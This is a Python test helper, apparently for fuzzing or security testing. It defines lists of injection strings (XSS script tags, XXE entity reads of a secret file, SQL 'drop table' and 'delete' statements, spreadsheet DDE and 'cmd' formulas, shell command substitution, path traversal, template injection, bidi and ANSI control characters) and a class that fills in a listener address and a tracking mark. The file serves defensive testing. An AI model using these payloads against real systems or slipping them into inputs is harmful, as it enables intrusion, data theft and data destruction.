"""Texts made to attack whatever shows, stores or runs them; each carries a mark of its own, to be found again by."""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

# WEB is an address where somebody listens, SECRET a file that nobody may read, PLACE a folder that nobody may write to.
HTML = (
    "<script>fetch('WEB/MARK')</script>",
    '<img src="WEB/MARK.png" onerror="alert(1)">',
    "<img src='file://SECRET?MARK'>",
    '<link rel="stylesheet" href="WEB/MARK.css">',
    '<link rel=attachment href="file://SECRET"> MARK',
    '"><svg onload=alert(1)><image href="WEB/MARK"/></svg>',
    "</td></tr></table><iframe src='WEB/MARK'></iframe>",
    "' onmouseover='alert(1)' MARK='",
    '<a href="javascript:alert(1)">MARK</a>',
    '<meta http-equiv="refresh" content="0;url=WEB/MARK">',
    '<base href="WEB/MARK/">',
    '<object data="file://SECRET">MARK</object>',
    "<!-- MARK",
    "--> MARK <!--",
    "]]> MARK <![CDATA[",
    '<?xml version="1.0"?> MARK',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://SECRET">]> &e; MARK',
    "&lt;b&gt; MARK &amp;amp; &#60;i&#62; &nbsp; &copy",
    "</title></head><body> MARK",
    "<plaintext> MARK",
)
CSS = (
    "</style><style>@import url(WEB/MARK.css);</style>",
    "; } * { background: url(WEB/MARK) } /*",
    "url(file://SECRET) MARK",
    "*/ } @font-face { src: url(WEB/MARK.woff) }",
    '<p style="background:url(WEB/MARK)">',
    "-moz-binding:url(WEB/MARK)",
    "expression(alert('MARK'))",
    "content: attr(MARK) counter(page)",
)
FORMULAS = (
    "=1+1+MARK",
    '=HYPERLINK("WEB/MARK","click")',
    "=cmd|' /C calc'!A0 MARK",
    '=WEBSERVICE("WEB/MARK")',
    "+1+MARK",
    "-1-MARK",
    "@SUM(1;MARK)",
    "-2+3+cmd|' /C calc'!MARK",
    '"=1+1" MARK',
    '=IMPORTXML(CONCAT("WEB/MARK"),"//a")',
    '=DDE("cmd";"/C calc";"MARK")',
    "_x0041_MARK_x000D_",
    "{=MARK}",
    "'=1+MARK",
)
SQL = (
    "'; drop table invoices; -- MARK",
    "'); delete from lines; -- MARK",
    "' union select 1, 2, 3 -- MARK",
    "MARK' or '1'='1",
    'MARK"; drop table "lines',
    "'; copy (select 'MARK') to 'PLACE/MARK'; --",
    "'; attach 'PLACE/MARK.db'; --",
    "read_text('SECRET') MARK",
    "$1 ? :name %s %(x)s MARK",
    "\\' \\\" \\\\ MARK",
    "/* MARK",
    "$$ MARK $$",
)
PATHS = (
    "../../../../PLACE/MARK",
    "PLACE/MARK",
    "..\\..\\..\\MARK",
    "C:\\Windows\\MARK.exe",
    "file://PLACE/MARK",
    "~/MARK",
    "$HOME/MARK",
    "$(touch PLACE/MARK)",
    "`touch PLACE/MARK`",
    "| touch PLACE/MARK #",
    "; touch PLACE/MARK ;",
    "&& touch PLACE/MARK",
    "%2e%2e%2f%2e%2e%2fMARK",
    "MARK/../../x",
    "--store=PLACE/MARK",
    "*?[MARK]{a,b}",
)
TEMPLATES = (
    "{{ 7 * 7 }} MARK",
    "{% for x in range(9) %}MARK{% endfor %}",
    "{# MARK #}",
    "{{ ''.__class__.__mro__ }} MARK",
    "{MARK}",
    "{0} {amount} {customer.name!r:>9} MARK",
    "}} MARK {{",
    "${7*7} $accent ${accent} MARK",
    "#{7*7} <%= 7*7 %> MARK",
    "%(name)s %d %n MARK",
    "[red]MARK[/red]",
    "MARK :100: :skull: :MARK:",
    "[/] MARK [link=WEB/MARK]x[/link]",
    "\\1 \\g<0> MARK",
    "(MARK) Tj ET /Rows 9 Tf (x",
    "MARK \\) endstream endobj",
)
# What platform tables take: a control that XML cannot hold is refused by them.
DIRECTIONS = (
    "MARK \u202egnp.exe\u202c",
    "\u2066MARK\u2069 \u2067x\u2069",
    "\u200fMARK\u200e \u061cx",
    "z\u200be\u200bro \ufeffMARK",
    "MARK\u2028second\u2029third",
    "e\u0301 n\u0303 MARK",
    "first\nMARK",
    "first\r\nMARK",
    "one\ttwo MARK",
    "one\rMARK",
)
ANSI = (
    "\u009b31mMARK\u009b0m",
    "\u009d0;MARK\u009c x",
    "MARK \x7f\x7f\x7f x",
    "MARK \u0085 \u008d x",
)
# What only files of calls and the command line can bring.
RAW_ANSI = (
    "\x1b[31mMARK\x1b[0m",
    "\x1b]0;MARK\x07 x",
    "\x1b]8;;WEB/MARK\x1b\\x\x1b]8;;\x1b\\",
    "MARK\x08\x08\x08x",
    "\x1b[2J\x1b[H MARK",
    "\x1bc MARK",
    "MARK \x0b\x0c x",
)
PRINTED = HTML + CSS + FORMULAS + SQL + PATHS + TEMPLATES + DIRECTIONS + ANSI
OF_ONE_LINE = tuple(text for text in PRINTED + RAW_ANSI if not {"\n", "\r"} & set(text))


@dataclass(slots=True)
class Texts:
    """Draws texts, no two the same: each of a list as it is, then two of them together.

    Attributes:
        seed: The same texts for the same seed.
        web: Where somebody listens.
        secret: A file.
        place: A folder.
        drawn: How many there were.
    """

    seed: int
    web: str
    secret: Path
    place: Path
    drawn: int = 0
    _rng: random.Random = field(init=False)

    def __post_init__(self) -> None:
        """Begin with the seed."""
        self._rng = random.Random(self.seed)

    def draw(self, texts: tuple[str, ...] = PRINTED) -> str:
        """The next text."""
        self.drawn += 1
        text = texts[(self.drawn + self.seed) % len(texts)]
        if self.seed or self.drawn > 3 * len(PRINTED):
            parts = [self._rng.choice(texts), self._rng.choice(texts)]
            text = self._rng.choice(["", " ", ";", '"', ","]).join(parts)
        mark = f"q{self.seed}z{self.drawn:05d}q"
        for name, found in (("MARK", mark), ("WEB", self.web), ("SECRET", self.secret), ("PLACE", self.place)):
            text = text.replace(name, str(found))
        return text

    def many(self, count: int, texts: tuple[str, ...] = PRINTED) -> list[str]:
        """The next texts."""
        return [self.draw(texts) for _ in range(count)]
